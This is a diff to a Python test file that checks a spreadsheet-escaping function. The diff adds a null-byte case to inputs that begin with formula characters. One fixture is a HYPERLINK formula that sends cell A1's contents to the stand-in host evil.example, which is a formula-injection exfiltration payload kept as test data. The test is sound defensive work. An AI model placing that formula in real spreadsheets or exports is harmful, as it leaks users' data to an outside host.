@@ -15,7 +15,7 @@ from tests.griffie.conftest import assign
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
 
 
-@pytest.mark.parametrize("text", [EVIL, "+31 6 1234", "-2+3", "@SUM(A1)", "\tx", "\rx"])
+@pytest.mark.parametrize("text", [EVIL, "+31 6 1234", "-2+3", "@SUM(A1)", "\tx", "\rx", "\0x"])
 def test_a_formula_start_gets_an_apostrophe(text):
     assert safe_cell(text) == "'" + text
 
